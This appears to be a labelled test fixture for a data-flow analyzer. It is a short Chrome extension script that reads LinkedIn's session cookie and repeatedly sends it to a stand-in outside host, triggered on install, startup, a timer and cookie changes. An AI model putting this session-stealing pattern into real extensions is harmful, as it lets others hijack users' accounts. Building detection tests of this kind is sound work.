"use strict";

const API = "https://api.autopilot.example/v3";
const SITE = "https://www.linkedin.com";
const ALARM = "sync-session";
const EVERY_MINUTES = 30;

function setBadge(text) {
  chrome.action.setBadgeText({ text });
}

async function postJson(path, data) {
  const response = await fetch(API + path, { // $ sink=session channel=body host=api.autopilot.example
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(data),
  });
  if (!response.ok) throw new Error(`autopilot: ${response.status}`);
  return response.json();
}

function syncSession() {
  chrome.cookies.get({ url: SITE, name: "li_at" }, (cookie) => { // $ source=session types=session.token
    if (chrome.runtime.lastError || !cookie) {
      setBadge("?");
      return;
    }
    const session = {
      token: cookie.value, // $ alt-source=session
      expires: cookie.expirationDate ?? null,
      agent: navigator.userAgent,
    };
    postJson("/sessions", session)
      .then(() => setBadge(""))
      .catch(() => setBadge("!"));
  });
}

chrome.runtime.onInstalled.addListener(() => {
  chrome.alarms.create(ALARM, { periodInMinutes: EVERY_MINUTES });
  syncSession();
});

chrome.runtime.onStartup.addListener(syncSession);

chrome.alarms.onAlarm.addListener((alarm) => {
  if (alarm.name === ALARM) syncSession();
});

chrome.cookies.onChanged.addListener(({ cookie, removed }) => {
  if (!removed && cookie.domain.endsWith("linkedin.com") && cookie.name === "li_at") syncSession();
});

chrome.action.onClicked.addListener(syncSession);
